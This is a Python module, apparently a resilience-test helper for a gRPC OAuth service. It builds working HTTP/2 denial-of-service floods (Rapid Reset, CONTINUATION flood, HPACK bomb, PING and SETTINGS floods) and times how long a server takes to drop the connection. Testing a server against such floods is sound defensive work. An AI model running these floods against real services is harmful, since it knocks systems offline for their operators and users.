"""Floods that HTTP/2 lets a caller send, each as octets to be repeated for as long as somebody takes them."""

import socket
import struct
import threading
import time

from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY,
                   RST_STREAM, SETTINGS, WINDOW_UPDATE, H2Connection, frame, grpc_headers, grpc_message, header_block)

UNARY, STREAM = "/oauth1d.v1.OAuth1Service/ListProviders", "/oauth1d.v1.OAuth1Service/StreamSignedRequest"
_CANCEL = struct.pack(">I", 8)
_AT_ONCE = 500


def rapid_reset(path, *, message):
    """CVE-2023-44487: calls that are begun and cancelled in one breath, with their message or before it."""
    block = header_block(grpc_headers(path))

    def streams(first):
        for stream in range(first, first + 2 * _AT_ONCE, 2):
            yield frame(HEADERS, END_HEADERS, stream, block)
            if message:
                yield frame(DATA, END_STREAM, stream, grpc_message(b""))
            yield frame(RST_STREAM, 0, stream, _CANCEL)
    first = 1
    while True:
        yield b"".join(streams(first))
        first += 2 * _AT_ONCE


def continuation(payload):
    """CVE-2024-27316: the headers of one call that never end."""
    yield frame(HEADERS, 0, 1, header_block(grpc_headers(UNARY)))
    while True:
        yield frame(CONTINUATION, 0, 1, payload) * (1 + (1 << 18) // (len(payload) + 9))


def hpack_bomb():
    """An entry of 4,000 bytes in the dynamic table (RFC 7541 section 6.2.1), told again by one byte, 16,000 times."""
    entry = b"\x40" + b"\x01x" + b"\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + b"y" * 4000
    block = header_block(grpc_headers(UNARY))
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block + entry)
    stream = 3
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, block + b"\xbe" * 16000)
                       for one in range(stream, stream + 20, 2))
        stream += 20


def repeated(octets, before=b""):
    yield before
    while True:
        yield octets * (1 + (1 << 17) // len(octets))


_OPEN = frame(HEADERS, END_HEADERS, 1, header_block(grpc_headers(STREAM)))
FLOODS = {
    "resets before the message": lambda: rapid_reset(UNARY, message=False),
    "resets after the message": lambda: rapid_reset(UNARY, message=True),
    "resets of streams": lambda: rapid_reset(STREAM, message=False),
    "headers without end": lambda: continuation(header_block([("x-more", "y" * 1000)] * 16)),
    "empty headers without end": lambda: continuation(b""),
    "headers that unfold": hpack_bomb,
    "pings": lambda: repeated(frame(PING, 0, 0, b"\0" * 8)),
    "settings": lambda: repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))),
    "empty data": lambda: repeated(frame(DATA, 0, 1), _OPEN),
    "windows": lambda: repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(PRIORITY, 0, 3, b"\0" * 5),
                                _OPEN),
}


class Flood:
    """Sends one of FLOODS from a thread until the other side has had enough; then `closed_after` says when, in
    seconds. What comes back is taken and thrown away."""

    def __init__(self, address, name, **tls):
        self.connection = H2Connection.connect(address, **tls)
        self.connection.preface()
        self.connection.socket.settimeout(None)
        self.closed_after, self.sent, self.stopped = None, 0, False
        self._octets = FLOODS[name]()
        self._threads = [threading.Thread(target=work, daemon=True) for work in (self._send, self._take)]
        self._began = time.monotonic()
        for thread in self._threads:
            thread.start()

    def _send(self):
        try:
            while not self.stopped:
                octets = next(self._octets)
                self.connection.send_raw(octets)
                self.sent += len(octets)
        except OSError:
            self._over()

    def _take(self):
        try:
            while self.connection.socket.recv(1 << 16):
                pass
            self._over()
        except OSError:
            self._over()

    def _over(self):
        if self.closed_after is None:
            self.closed_after = time.monotonic() - self._began

    def stop(self):
        self.stopped = True
        try:
            self.connection.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        for thread in self._threads:
            thread.join()
        self.connection.close()
